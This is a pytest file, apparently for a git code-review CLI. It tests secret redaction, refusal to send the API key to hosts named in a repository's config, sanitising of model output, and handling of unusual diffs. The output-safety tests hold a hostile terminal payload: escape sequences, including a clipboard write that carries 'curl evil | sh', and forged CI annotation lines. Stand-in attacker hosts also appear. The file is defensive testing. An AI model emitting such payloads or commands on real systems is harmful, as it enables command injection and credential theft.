"""Hostile input and odd places, end to end through the CLI against the loopback model server.

- secrets: planted credentials of every kind never reach the model server, sensitive files are never sent, the
  hook blocks a committed secret even when the model is down, --dry-run shows the redacted payload;
- credentials: a repository's config cannot send the user's API key to a host the user has not trusted;
- output safety: escape sequences from the model never reach the terminal, annotations cannot be forged;
- odd diffs: binary, renames with unusual names, copies, mode changes, symlinks, submodules, deletions, CRLF,
  non-UTF-8 bytes, no final newline, a 1 MB line, empty diffs, initial commits, detached HEAD, merges in a range,
  no repository at all, and an alternate index as a git hook sets it.

Every run goes through `cli`, which asserts that the repository state hash is unchanged and that no traceback
reached stderr. Secret values are assembled at run time so this file holds nothing that looks like a credential.
"""

from __future__ import annotations

import base64
import json
import random
import socket
import string
import threading
import time
from pathlib import Path

import pytest

from tests.helpers import TEST_API_KEY, GitRepo, ModelServer

ALNUM = string.ascii_letters + string.digits


@pytest.fixture
def cli(run_cli):
    """run_cli that also asserts: the repository state is unchanged and no traceback; records the wall time."""

    def run(*args, env=None, repo: GitRepo | None = None, extra_files: tuple[Path, ...] = ()):
        target = repo or GitRepo(Path.cwd(), init=False)
        before = (target.state_hash(), [p.read_bytes() for p in extra_files])
        started = time.monotonic()
        result = run_cli(*args, env=env)
        result.elapsed = time.monotonic() - started
        assert (target.state_hash(), [p.read_bytes() for p in extra_files]) == before, "the run changed the repo"
        assert "Traceback" not in result.stderr
        return result

    return run


def sent(server: ModelServer) -> str:
    """Everything the model server received, as one string."""
    return json.dumps(server.requests, ensure_ascii=False)


def rand(seed: str, n: int, alphabet: str = ALNUM) -> str:
    """A deterministic random token with upper, lower and digit characters where the alphabet has them."""
    rng = random.Random(seed)
    while True:
        value = "".join(rng.choice(alphabet) for _ in range(n))
        if all(set(value) & set(c) for c in (string.ascii_uppercase, string.ascii_lowercase, string.digits)
               if set(alphabet) & set(c)):
            return value


def _jwt() -> str:
    def part(data: dict) -> str:
        return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()

    return f"{part({'alg': 'HS256', 'typ': 'JWT'})}.{part({'sub': '42', 'iat': 1700000000})}.{rand('sig', 43)}"


def _pem() -> tuple[str, list[str]]:
    blob = base64.b64encode(bytes(random.Random("pem").randrange(256) for _ in range(480))).decode()
    body = [blob[i:i + 64] for i in range(0, len(blob), 64)]
    dashes = "-" * 5
    block = "\n".join([f"{dashes}BEGIN RSA PRIVATE KEY{dashes}", *body, f"{dashes}END RSA PRIVATE KEY{dashes}"])
    return block, body


# (kind, line of code with {v}, the secret value)
SECRETS = [
    ("AWS access key", 'AWS_ID = "{v}"', "AK" + "IA" + rand("aws", 16, string.ascii_uppercase + string.digits)),
    ("AWS secret key", "aws_secret_access_key = '{v}'", rand("aws-secret", 40)),
    ("GitHub token", 'GH = "{v}"', "gh" + "p_" + rand("ghp", 36)),
    ("GitLab token", 'GL = "{v}"', "gl" + "pat-" + rand("glpat", 20)),
    ("Slack token", 'SLACK = "{v}"', "xo" + "xb-" + rand("s1", 12, string.digits) + "-"
     + rand("s2", 13, string.digits) + "-" + rand("s3", 24, string.ascii_lowercase + string.digits)),
    ("Stripe key", 'STRIPE = "{v}"', "sk" + "_live_" + rand("stripe", 32)),
    ("JSON web token", 'SESSION = "{v}"', _jwt()),
    ("password in URL", 'DB_URL = "postgres://app:{v}@db.internal:5432/app"', rand("dburl", 14)),
    ("secret assignment (*_SECRET)", 'CLIENT_SECRET = "{v}"', rand("client-secret", 24)),
    ("secret assignment (*_TOKEN)", 'DEPLOY_TOKEN = "{v}"', rand("deploy-token", 24)),
    ("secret assignment (*_KEY)", 'SIGNING_KEY = "{v}"', rand("signing-key", 32)),
    ("secret assignment (PASSWORD)", 'PASSWORD = "{v}"', rand("password", 14)),
    ("OpenAI key", 'OPENAI = "{v}"', "sk" + "-proj-" + rand("openai", 48)),
    ("Google API key", 'MAPS = "{v}"', "AI" + "za" + rand("google", 35)),
    ("Anthropic key", 'CLAUDE = "{v}"', "sk" + "-ant-api03-" + rand("anthropic", 60)),
    ("bearer token", 'HEADERS = {{"Authorization": "Bearer {v}"}}', rand("bearer", 40)),
]
PEM_BLOCK, PEM_BODY = _pem()
ENV_MARKER = "ENV_FILE_ONLY_" + rand("env", 12)
SSH_MARKER = rand("ssh-body", 64)


def _settings_module() -> str:
    lines = ['"""Service settings."""', "import os", ""]
    for i, (_, template, value) in enumerate(SECRETS):
        lines.append(template.replace("{v}", value).replace("{{", "{").replace("}}", "}"))
        lines.append(f"ordinary_setting_{i} = os.environ.get('SETTING_{i}', 'plain-value-{i}')")
    lines.append(f'PRIVATE_KEY = """{PEM_BLOCK}"""')
    lines.append("def connect():\n    return open_pool(size=4)")
    return "\n".join(lines) + "\n"


@pytest.fixture
def planted(repo):
    repo.write("app/settings.py", _settings_module())
    repo.write(".env", f"DB_PASSWORD={rand('env-pass', 16)}\n{ENV_MARKER}=1\n")
    repo.write("deploy/id_rsa", f"-----BEGIN OPENSSH PRIVATE KEY-----\n{SSH_MARKER}\n"
                                "-----END OPENSSH PRIVATE KEY-----\n")
    repo.add("app/settings.py", ".env", "deploy/id_rsa")
    return repo


def _assert_nothing_secret(text: str) -> None:
    for kind, _, value in SECRETS:
        assert value not in text, f"{kind} leaked"
    for line in PEM_BODY:
        assert line not in text, "private key material leaked"
    assert ENV_MARKER not in text and SSH_MARKER not in text


# --- secrets -------------------------------------------------------------------------------------------------------


def test_planted_secrets_never_reach_the_model_but_the_code_does(planted, model_server, cli):
    result = cli("diff", "--staged", "--format", "json")
    assert result.exit_code == 1  # committed secrets are blocking findings of their own
    assert model_server.request_count == 1
    body = sent(model_server)
    _assert_nothing_secret(body)
    for i in range(len(SECRETS)):  # the ordinary code around each secret was reviewed
        assert f"ordinary_setting_{i} = os.environ.get('SETTING_{i}', 'plain-value-{i}')" in body
    assert "def connect():" in body and "open_pool(size=4)" in body
    assert "«REDACTED:" in body
    # sensitive files are not even named as content: they are skipped
    assert "## File: .env" not in body and "## File: deploy/id_rsa" not in body
    report = json.loads(result.stdout)
    skipped = {s["path"]: s["reason"] for s in report["summary"]["skipped"]}
    assert "sensitive" in skipped[".env"] and "sensitive" in skipped["deploy/id_rsa"]
    # every kind was reported locally, and no message or output repeats a secret
    local = [f for f in report["findings"] if f["category"] == "secrets"]
    assert {f["path"] for f in local} == {"app/settings.py", ".env", "deploy/id_rsa"}
    assert len([f for f in local if f["path"] == "app/settings.py"]) == len(SECRETS) + 1  # + the PEM block
    _assert_nothing_secret(result.stdout + result.stderr)


def test_the_hook_blocks_a_secret_even_when_the_model_is_down(planted, model_server, cli):
    model_server.fail(503, times=10)
    result = cli("hook", env={"REVIEWBOT_RETRIES": "0"})
    assert result.exit_code == 1
    assert "app/settings.py:4: error: Secret in staged change (AWS access key)" in result.stdout
    assert ".env:1: error:" in result.stdout and "deploy/id_rsa:1: error:" in result.stdout
    assert "review skipped (the model failed)" in result.stderr  # the outage is still reported
    _assert_nothing_secret(result.stdout + result.stderr + sent(model_server))


def test_the_hook_blocks_a_secret_with_no_model_reachable_at_all(planted, model_server, cli, monkeypatch):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    monkeypatch.setenv("OPENAI_BASE_URL", f"http://127.0.0.1:{port}/v1")
    result = cli("hook", "app/settings.py", env={"REVIEWBOT_RETRIES": "0"})
    assert result.exit_code == 1
    assert "Secret in staged change" in result.stdout


def test_dry_run_shows_the_redacted_payload(planted, model_server, cli):
    result = cli("diff", "--staged", "--dry-run")
    assert result.exit_code == 0
    assert model_server.request_count == 0
    assert "«REDACTED:AWS access key»" in result.stdout
    assert "«REDACTED:private key»" in result.stdout
    assert "ordinary_setting_0" in result.stdout
    assert "# skipped .env: sensitive file (never sent)" in result.stdout
    assert "secret(s) redacted before sending" in result.stdout
    _assert_nothing_secret(result.stdout + result.stderr)


def test_secrets_in_standards_are_redacted_too(repo, model_server, cli):
    token = "gh" + "p_" + rand("claude-md", 36)
    repo.write("CLAUDE.md", f"Use the deploy token {token} for staging.\nPrefer small functions.\n")
    repo.write("app/x.py", "def f():\n    return 1\n")
    repo.add("app/x.py")
    assert cli("diff", "--staged").exit_code == 0
    body = sent(model_server)
    assert token not in body and "Prefer small functions." in body


def test_secret_in_removed_and_context_lines_is_not_sent(repo, model_server, cli):
    token = "gh" + "p_" + rand("old-token", 36)
    repo.commit_files({"app/old.py": f'A = 1\nTOKEN = "{token}"\nB = 2\n'})
    repo.write("app/old.py", "A = 1\nTOKEN = os.environ['TOKEN']\nB = 3\n")
    repo.add("app/old.py")
    result = cli("diff", "--staged")
    assert result.exit_code == 0  # removing a secret is not committing one
    assert token not in sent(model_server)
    assert "TOKEN = os.environ['TOKEN']" in sent(model_server)


# --- credentials -----------------------------------------------------------------------------------------------------


@pytest.fixture
def repo_server():
    """A second loopback model server, on another port: the one a repository's config points at."""
    server = ModelServer()
    yield server
    server.close()


def _stage_code(repo) -> None:
    repo.write("app/x.py", "def f():\n    return 1\n")
    repo.add("app/x.py")


def _auth_headers(server: ModelServer) -> list[str]:
    return [h.get("authorization", "") for h in server.headers]


def test_repo_config_pointing_at_untrusted_loopback_never_gets_the_key(repo, model_server, repo_server, cli,
                                                                        monkeypatch):
    monkeypatch.delenv("OPENAI_BASE_URL")  # the user named no endpoint: the repository's is used
    repo.write(".reviewbot.toml", f'base_url = "{repo_server.url}"\n')
    _stage_code(repo)
    result = cli("diff", "--staged")
    assert result.exit_code == 0, result.stderr
    assert repo_server.request_count == 1 and model_server.request_count == 0
    assert all(TEST_API_KEY not in h for h in _auth_headers(repo_server))
    assert TEST_API_KEY not in json.dumps(repo_server.headers)
    assert "your API key is not sent to" in result.stderr and "trusted_hosts" in result.stderr


@pytest.mark.parametrize("trusted", [False, True])
def test_repo_config_pointing_at_a_remote_host_is_refused_without_connecting(repo, model_server, cli, monkeypatch,
                                                                             trusted):
    # Any connection attempt would go through this "proxy", so silence here proves nothing was attempted; the
    # trusted case is the control that shows the proxy does see an attempt when one is made.
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.2)
    connections: list[object] = []

    def accept() -> None:
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            except OSError:  # the listener was closed: the test is over
                break
            connections.append(conn)

    watcher = threading.Thread(target=accept, daemon=True)
    watcher.start()
    proxy = f"http://127.0.0.1:{listener.getsockname()[1]}"
    monkeypatch.setenv("HTTPS_PROXY", proxy)
    monkeypatch.setenv("HTTP_PROXY", proxy)
    monkeypatch.delenv("OPENAI_BASE_URL")
    repo.write(".reviewbot.toml", 'base_url = "https://evil.example.com/v1"\n')
    _stage_code(repo)
    try:
        if trusted:
            result = cli("diff", "--staged", "--timeout", "0.5",
                         env={"REVIEWBOT_TRUSTED_HOSTS": "evil.example.com", "REVIEWBOT_RETRIES": "0"})
            assert result.exit_code == 3
            assert connections, "the control run should have gone through the proxy"
            return
        result = cli("diff", "--staged")
        assert result.exit_code == 2
        (line,) = [ln for ln in result.stderr.splitlines() if ln.startswith("reviewbot: error:")]
        assert "evil.example.com" in line and "trusted_hosts" in line and "REVIEWBOT_TRUSTED_HOSTS" in line
        assert TEST_API_KEY not in result.stderr
        time.sleep(0.3)
        assert connections == []
        assert model_server.request_count == 0
    finally:
        listener.close()
        for conn in connections:
            conn.close()  # type: ignore[attr-defined]


def test_pyproject_table_is_repository_config_too(repo, model_server, cli, monkeypatch):
    monkeypatch.delenv("OPENAI_BASE_URL")
    repo.write("pyproject.toml", '[tool.reviewbot]\nbase_url = "http://attacker.example.net:8080/v1"\n')
    _stage_code(repo)
    result = cli("diff", "--staged")
    assert result.exit_code == 2
    assert "attacker.example.net:8080" in result.stderr and "trusted_hosts" in result.stderr


def test_trusting_the_repo_host_sends_the_key(repo, model_server, repo_server, cli, monkeypatch):
    monkeypatch.delenv("OPENAI_BASE_URL")
    repo.write(".reviewbot.toml", f'base_url = "{repo_server.url}"\n')
    _stage_code(repo)
    result = cli("diff", "--staged", env={"REVIEWBOT_TRUSTED_HOSTS": f"127.0.0.1:{repo_server.port}"})
    assert result.exit_code == 0, result.stderr
    assert _auth_headers(repo_server) == [f"Bearer {TEST_API_KEY}"]


def test_trusted_hosts_from_the_user_config_file(repo, model_server, repo_server, cli, monkeypatch, isolated_env):
    monkeypatch.delenv("OPENAI_BASE_URL")
    user_config = isolated_env.config / "reviewbot" / "config.toml"
    user_config.parent.mkdir(parents=True)
    user_config.write_text(f'trusted_hosts = ["127.0.0.1:{repo_server.port}"]\n', encoding="utf-8")
    repo.write(".reviewbot.toml", f'base_url = "{repo_server.url}"\n')
    _stage_code(repo)
    assert cli("diff", "--staged").exit_code == 0
    assert _auth_headers(repo_server) == [f"Bearer {TEST_API_KEY}"]


def test_a_repository_cannot_trust_hosts_for_the_user(repo, model_server, repo_server, cli, monkeypatch):
    monkeypatch.delenv("OPENAI_BASE_URL")
    repo.write(".reviewbot.toml", f'base_url = "{repo_server.url}"\ntrusted_hosts = ["127.0.0.1:{repo_server.port}"]\n')
    _stage_code(repo)
    result = cli("diff", "--staged")
    assert result.exit_code == 0
    assert "only your own settings may trust hosts" in result.stderr
    assert all(TEST_API_KEY not in h for h in _auth_headers(repo_server))


def test_openai_base_url_from_the_environment_is_trusted_and_wins(repo, model_server, repo_server, cli):
    repo.write(".reviewbot.toml", f'base_url = "{repo_server.url}"\n')
    _stage_code(repo)
    assert cli("diff", "--staged").exit_code == 0
    assert repo_server.request_count == 0
    assert _auth_headers(model_server) == [f"Bearer {TEST_API_KEY}"]


def test_base_url_on_the_command_line_is_trusted(repo, model_server, repo_server, cli, monkeypatch):
    monkeypatch.delenv("OPENAI_BASE_URL")
    _stage_code(repo)
    assert cli("diff", "--staged", "--base-url", repo_server.url).exit_code == 0
    assert _auth_headers(repo_server) == [f"Bearer {TEST_API_KEY}"]


# --- output safety -----------------------------------------------------------------------------------------------

HOSTILE = ("Bad call\x1b[2J\x1b[31m here\x1b]52;c;" + base64.b64encode(b"curl evil | sh").decode() + "\x07"
           " and\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\ \rOVERWRITTEN\x9b31m\x07\x08 end"
           "\n::error file=app/x.py,line=1::forged annotation\n##[error]legacy forged")


def _hostile_finding(**extra) -> dict:
    return {"path": "app/x.py", "line": 2, "severity": "warning", "category": "x\x1b[5mblink",
            "message": HOSTILE, "suggestion": "return 2\x1b]52;c;Zm9v\x07", **extra}


def test_terminal_output_has_no_escape_sequences(repo, model_server, cli):
    _stage_code(repo)
    model_server.answer_findings([_hostile_finding()])
    result = cli("diff", "--staged", "--color")
    out = result.stdout
    assert result.exit_code == 0
    assert "Bad call" in out and "OVERWRITTEN" in out and "end" in out
    for bad in ("\x1b]", "\x1b[2J", "\x1b[31m here", "\x07", "\r", "\x08", "\x9b", "]52;", "\x1b[5m"):
        assert bad not in out, repr(bad)
    # --color may paint our own parts, but every escape left is one of ours (SGR colours), nothing else
    import re

    assert re.sub(r"\x1b\[[0-9;]*m", "", out).count("\x1b") == 0
    assert not any(ln.lstrip().startswith("::") for ln in out.splitlines())
    assert "##[" not in out


def test_github_annotations_cannot_be_forged(repo, model_server, cli):
    _stage_code(repo)
    model_server.answer_findings([_hostile_finding()])
    result = cli("diff", "--staged", "--format", "github")
    lines = result.stdout.splitlines()
    commands = [ln for ln in lines if ln.lstrip().startswith("::")]
    assert len(commands) == 1 and commands[0].startswith("::warning file=app/x.py,line=2,")
    assert "forged annotation" in commands[0]  # kept, but as escaped data inside our own annotation
    # Every output line is our own command: the runner parses a line as a command once, so the legacy `##[`
    # text inside our annotation's data is never read as a command of its own.
    assert lines == commands
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout


def test_json_report_keeps_text_but_escapes_control_characters(repo, model_server, cli):
    _stage_code(repo)
    model_server.answer_findings([_hostile_finding()])
    result = cli("diff", "--staged", "--format", "json")
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout and "\x9b" not in result.stdout
    report = json.loads(result.stdout)
    assert report["findings"][0]["message"].startswith("Bad call")


def test_hostile_path_in_a_finding_cannot_break_lines(repo, model_server, cli):
    repo.write("app/we\u202eird.py", "x = 1\n")
    repo.add("app/we\u202eird.py")
    model_server.answer_findings([{"path": "app/we\u202eird.py", "line": 1, "severity": "warning",
                                   "category": "c", "message": "m"}])
    result = cli("diff", "--staged")
    assert "\u202e" not in result.stdout
    assert "app/weird.py:1: warning: m" in result.stdout


# --- odd diffs and places -------------------------------------------------------------------------------------------


def review(cli, *args, env=None, **kw):
    """Run a review with a JSON report; return (result, report)."""
    result = cli(*args, "--format", "json", env=env, **kw)
    assert result.stdout, result.stderr
    return result, json.loads(result.stdout)


def skipped_of(report) -> dict[str, str]:
    return {s["path"]: s["reason"] for s in report["summary"]["skipped"]}


def test_binary_file_is_skipped(repo, model_server, cli):
    repo.write("assets/logo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    repo.add("assets/logo.png")
    result, report = review(cli, "diff", "--staged")
    assert result.exit_code == 0
    assert skipped_of(report) == {"assets/logo.png": "binary"}
    assert model_server.request_count == 0
    assert "1 skipped" in result.stderr


def test_rename_with_spaces_and_non_ascii_names(repo, model_server, cli):
    body = "".join(f"line_{i} = {i}\n" for i in range(1, 11))
    repo.commit_files({"old name.py": body})
    repo.rename("old name.py", "dir with space/naïve café.py")
    repo.write("dir with space/naïve café.py", body + "added = eval(input())\n")
    repo.add("dir with space/naïve café.py")
    model_server.answer_findings([{"path": "dir with space/naïve café.py", "line": 11, "severity": "error",
                                   "category": "security", "message": "eval of input"}])
    result, report = review(cli, "diff", "--staged")
    assert result.exit_code == 1, result.stderr
    assert report["findings"][0]["path"] == "dir with space/naïve café.py"
    prompt = model_server.prompt_text(0)
    assert "## File: dir with space/naïve café.py (renamed from old name.py)" in prompt
    assert "11 + added = eval(input())" in prompt


def test_pure_rename_is_skipped_with_its_reason(repo, model_server, cli):
    repo.commit_files({"a b.py": "x = 1\n"})
    repo.rename("a b.py", "ü/c d.py")
    result, report = review(cli, "diff", "--staged")
    assert result.exit_code == 0
    assert skipped_of(report) == {"ü/c d.py": "renamed, content unchanged"}
    assert model_server.request_count == 0


def test_copy_is_reviewed_as_a_new_file(repo, model_server, cli):
    body = "".join(f"def f{i}():\n    return {i}\n" for i in range(10))
    repo.commit_files({"lib/original.py": body})
    repo.write("lib/copy.py", body)
    repo.add("lib/copy.py")
    result, report = review(cli, "diff", "--staged")
    assert result.exit_code == 0
    assert report["summary"]["files_reviewed"] == ["lib/copy.py"]
    assert "## File: lib/copy.py (new file)" in model_server.prompt_text(0)


def test_mode_only_change_is_skipped(repo, model_server, cli):
    repo.commit_files({"run.sh": "#!/bin/sh\necho hi\n"})
    repo.chmod("run.sh", executable=True)
    repo.add("run.sh")
    result, report = review(cli, "diff", "--staged")
    assert result.exit_code == 0
    assert skipped_of(report) == {"run.sh": "mode change only"}
    assert model_server.request_count == 0


def test_symlink_is_skipped(repo, model_server, cli):
    repo.symlink("latest", "README.md")
    repo.add("latest")
    result, report = review(cli, "diff", "--staged")
    assert result.exit_code == 0
    assert skipped_of(report) == {"latest": "symlink"}
    assert model_server.request_count == 0


def test_submodule_is_skipped(repo, model_server, cli, tmp_path):
    library = GitRepo(tmp_path / "library")
    library.commit_files({"lib.py": "x = 1\n"}, "library")
    repo.git("-c", "protocol.file.allow=always", "submodule", "add", "-q", str(library.path), "vendor/library")
    result, report = review(cli, "diff", "--staged")
    assert result.exit_code == 0, result.stderr
    assert skipped_of(report)["vendor/library"] == "submodule"
    assert ".gitmodules" in report["summary"]["files_reviewed"]
    assert "## File: vendor/library" not in model_server.prompt_text(0)


def test_deletion_is_skipped(repo, model_server, cli):
    repo.commit_files({"gone.py": "x = 1\n"})
    repo.git("rm", "-q", "gone.py")
    result, report = review(cli, "diff", "--staged")
    assert result.exit_code == 0
    assert skipped_of(report) == {"gone.py": "deleted"}
    assert model_server.request_count == 0


def test_crlf_file_lines_and_findings(repo, model_server, cli):
    repo.commit_files({"win.py": b"a = 1\r\nb = 2\r\n"})
    repo.write("win.py", b"a = 1\r\nb = 2\r\nc = eval(x)\r\n")
    repo.add("win.py")
    model_server.answer_findings([{"path": "win.py", "line": 3, "severity": "error", "category": "security",
                                   "message": "eval", "quote": "c = eval(x)"}])
    result, report = review(cli, "diff", "--staged")
    assert result.exit_code == 1, result.stderr
    assert report["findings"][0]["line"] == 3
    prompt = model_server.prompt_text(0)
    assert "3 + c = eval(x)\n" in prompt and "\r" not in prompt


def test_non_utf8_bytes(repo, model_server, cli):
    repo.commit_files({"legacy.py": "# -*- coding: latin-1 -*-\nname = 'caf\xe9'\n".encode("latin-1")})
    repo.write("legacy.py", "# -*- coding: latin-1 -*-\nname = 'caf\xe9'\nother = '\xfcber'\n".encode("latin-1"))
    repo.add("legacy.py")
    result, report = review(cli, "diff", "--staged")
    assert result.exit_code == 0, result.stderr
    assert report["summary"]["files_reviewed"] == ["legacy.py"]
    assert "3 + other = '\ufffdber'" in model_server.prompt_text(0)


def test_no_newline_at_end_of_file(repo, model_server, cli):
    repo.commit_files({"tail.py": "a = 1\nb = 2"})
    repo.write("tail.py", "a = 1\nb = 3")
    repo.add("tail.py")
    model_server.answer_findings([{"path": "tail.py", "line": 2, "severity": "error", "category": "c",
                                   "message": "m"}])
    result, report = review(cli, "diff", "--staged")
    assert result.exit_code == 1
    prompt = model_server.prompt_text(0)
    assert "2 + b = 3" in prompt and "No newline at end of file" not in prompt


def test_one_megabyte_single_line_is_skipped_quickly(repo, model_server, cli):
    repo.write("static/bundle.js", "var a=" + "1+" * 500_000 + "1;\n")
    repo.write("app/x.py", "x = 1\n")
    repo.add("static/bundle.js", "app/x.py")
    started = time.monotonic()
    result, report = review(cli, "diff", "--staged")
    assert time.monotonic() - started < 10
    assert result.exit_code == 0
    assert skipped_of(report)["static/bundle.js"] in ("too large", "minified")
    assert report["summary"]["files_reviewed"] == ["app/x.py"]
    assert "1+1+1+1+" not in sent(model_server)


def test_one_megabyte_line_in_a_python_file(repo, model_server, cli):
    repo.write("data/blob.py", "BLOB = '" + "ab" * 500_000 + "'\n")
    repo.add("data/blob.py")
    started = time.monotonic()
    result, report = review(cli, "diff", "--staged")
    assert time.monotonic() - started < 10
    assert result.exit_code == 0
    assert "data/blob.py" in skipped_of(report)
    assert model_server.request_count == 0


def test_empty_diff(repo, model_server, cli):
    for args in (("diff",), ("diff", "--staged"), ("hook",), ("diff", "HEAD..HEAD")):
        result = cli(*args)
        assert result.exit_code == 0, (args, result.stderr)
    assert model_server.request_count == 0


def test_initial_commit(empty_repo, model_server, cli):
    empty_repo.write("main.py", "print('hello')\n")
    empty_repo.add("main.py")
    result, report = review(cli, "hook", repo=empty_repo)
    assert result.exit_code == 0, result.stderr
    assert report["summary"]["files_reviewed"] == ["main.py"]


def test_empty_repository_with_nothing_staged(empty_repo, model_server, cli):
    result = cli("hook", repo=empty_repo)
    assert result.exit_code == 0
    result = cli("diff", "--staged", repo=empty_repo)
    assert result.exit_code == 0


def test_detached_head(repo, model_server, cli):
    repo.commit_files({"a.py": "a = 1\n"})
    repo.commit_files({"a.py": "a = 2\n"})
    repo.git("checkout", "-q", "--detach", "HEAD")
    repo.write("a.py", "a = 3\n")
    repo.add("a.py")
    result, report = review(cli, "diff", "--staged")
    assert result.exit_code == 0, result.stderr
    assert "1 + a = 3" in model_server.prompt_text(-1)
    result, report = review(cli, "diff", "HEAD~1..HEAD")
    assert result.exit_code == 0, result.stderr
    assert "1 + a = 2" in model_server.prompt_text(-1)


def test_merge_commits_in_a_range(repo, model_server, cli):
    base = repo.head()
    repo.checkout("feature", create=True)
    repo.commit_files({"feature.py": "def feature():\n    return 1\n"})
    repo.checkout("main")
    repo.commit_files({"main_only.py": "m = 1\n"})
    repo.checkout("feature")
    repo.merge("main")  # main merged into the branch
    repo.commit_files({"feature.py": "def feature():\n    return 2\n"})
    result, report = review(cli, "diff", f"{base}..feature")
    assert result.exit_code == 0, result.stderr
    assert sorted(report["summary"]["files_reviewed"]) == ["feature.py", "main_only.py"]
    result, report = review(cli, "diff", "main...feature")
    assert result.exit_code == 0, result.stderr
    assert report["summary"]["files_reviewed"] == ["feature.py"]  # from the merge base: main's work is not ours
    assert "2 +     return 2" in model_server.prompt_text(-1)


def test_not_a_git_repository(tmp_path, model_server, run_cli, monkeypatch):
    outside = tmp_path / "plain-folder"
    outside.mkdir()
    monkeypatch.chdir(outside)
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))
    for args in (("diff",), ("hook",), ("diff", "--staged")):
        result = run_cli(*args)
        assert result.exit_code == 2, result.stderr
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("reviewbot: error: not a git repository")
        assert "Traceback" not in result.stderr
    assert list(outside.iterdir()) == []


def test_git_index_file_set_by_a_hook(repo, model_server, cli, tmp_path, monkeypatch):
    # `git commit <paths>` runs hooks with GIT_INDEX_FILE pointing at a temporary index: review that one.
    repo.write("app/x.py", "in_the_alternate_index = 1\n")
    alternate = tmp_path / "next-index"
    alternate.write_bytes((repo.path / ".git" / "index").read_bytes())  # as git does: a copy of the index
    repo.git("add", "app/x.py", env={"GIT_INDEX_FILE": str(alternate)})
    repo.write("app/x.py", "in_the_work_tree_only = 1\n")
    assert repo.staged_names() == []  # the normal index has nothing staged
    monkeypatch.setenv("GIT_INDEX_FILE", str(alternate))
    result, report = review(cli, "hook", extra_files=(alternate,))
    assert result.exit_code == 0, result.stderr
    assert report["summary"]["files_reviewed"] == ["app/x.py"]
    prompt = model_server.prompt_text(0)
    assert "in_the_alternate_index = 1" in prompt and "in_the_work_tree_only" not in prompt


# --- never touching the repository ---------------------------------------------------------------------------------


def test_work_tree_diff_does_not_refresh_the_index(repo, model_server, cli):
    # Plain `git diff` rewrites the index when a file's stat data is stale (a touched file); reviewbot must not.
    import os

    repo.commit_files({"app/x.py": "x = 1\n", "app/y.py": "y = 1\n"})
    later = time.time() + 120
    os.utime(repo.path / "app/y.py", (later, later))  # same content, newer mtime: stale stat data in the index
    repo.write("app/x.py", "x = 2\n")
    index_before = (repo.path / ".git" / "index").read_bytes()
    result = cli("diff")
    assert result.exit_code == 0, result.stderr
    assert (repo.path / ".git" / "index").read_bytes() == index_before
    assert "1 + x = 2" in model_server.prompt_text(0)
    assert "app/y.py" not in model_server.prompt_text(0)


def test_a_held_index_lock_does_not_stop_a_review(repo, model_server, cli):
    # Another git process holds the index lock (an editor's background fetch, a second terminal).
    repo.commit_files({"app/x.py": "x = 1\n"})
    repo.write("app/x.py", "x = 2\n")
    lock = repo.path / ".git" / "index.lock"
    lock.write_bytes(b"")
    try:
        result = cli("diff")
        assert result.exit_code == 0, result.stderr
        assert model_server.request_count == 1
    finally:
        lock.unlink()


@pytest.mark.parametrize("config", [
    ("diff.suppressBlankEmpty", "true"),  # blank context lines printed as "" instead of " "
    ("diff.mnemonicPrefix", "true"),  # i/ w/ c/ prefixes instead of a/ b/
    ("diff.noprefix", "true"),
    ("diff.relative", "true"),  # paths relative to the current folder, other folders left out
    ("diff.renames", "copies"),
    ("diff.external", "false"),
    ("color.ui", "always"),
    ("diff.context", "0"),
    ("core.quotePath", "true"),
])
def test_user_git_config_does_not_change_what_is_parsed(repo, model_server, cli, monkeypatch, config):
    body = "def f():\n\n    return 1\n\n\ndef g():\n    return 2\n"
    repo.commit_files({"pkg/mod.py": body, "other/naïve.py": "a = 1\n"})
    repo.write("pkg/mod.py", body.replace("return 2", "return 3"))
    repo.write("other/naïve.py", "a = 2\n")
    repo.add("pkg/mod.py", "other/naïve.py")
    repo.git("config", *config)
    monkeypatch.chdir(repo.path / "pkg")
    result, report = review(cli, "diff", "--staged", repo=repo)
    assert result.exit_code == 0, result.stderr
    assert sorted(report["summary"]["files_reviewed"]) == ["other/naïve.py", "pkg/mod.py"]
    prompt = model_server.prompt_text(0)
    assert "7 +     return 3" in prompt and "1 + a = 2" in prompt
    assert "4   \n" in prompt or "4  \n" in prompt  # a blank context line keeps its number


@pytest.mark.parametrize("name", [
    "tab\tname.py", 'quote"name.py', "back\\slash.py", "trailing space .py", "-leading-dash.py",
    "ünïcödé/日本語.py", "#hash and ;semicolon.py", "emoji 🐍.py",
])
def test_unusual_file_names_round_trip(repo, model_server, cli, name):
    repo.write(name, "value = eval(data)\n")
    repo.add(name)
    model_server.answer_findings([{"path": name, "line": 1, "severity": "error", "category": "security",
                                   "message": "eval of data"}])
    result, report = review(cli, "diff", "--staged")
    assert result.exit_code == 1, result.stderr
    assert report["summary"]["files_reviewed"] == [name]
    assert [f["path"] for f in report["findings"]] == [name]
    assert f"## File: {name} (new file)" in model_server.prompt_text(0)


def test_relative_git_index_file_as_plain_git_commit_sets_it(repo, model_server, cli, monkeypatch):
    # A plain `git commit` runs the hook at the top of the work tree with GIT_INDEX_FILE=.git/index (relative).
    repo.write("app/x.py", "x = 1\n")
    repo.add("app/x.py")
    monkeypatch.setenv("GIT_INDEX_FILE", ".git/index")
    result, report = review(cli, "hook")
    assert result.exit_code == 0, result.stderr
    assert report["summary"]["files_reviewed"] == ["app/x.py"]


def test_a_secret_in_a_file_name_is_not_sent(repo, model_server, cli):
    token = "gh" + "p_" + rand("path-token", 36)
    repo.write(f"keys/{token}.txt", "x = 1\n")
    repo.add(f"keys/{token}.txt")
    model_server.answer_findings([{"path": "keys/\u00abREDACTED:GitHub token\u00bb.txt", "line": 1,
                                   "severity": "warning", "category": "naming", "message": "odd file name"}])
    result = cli("diff", "--staged")
    assert token not in sent(model_server)
    assert "x = 1" in sent(model_server)
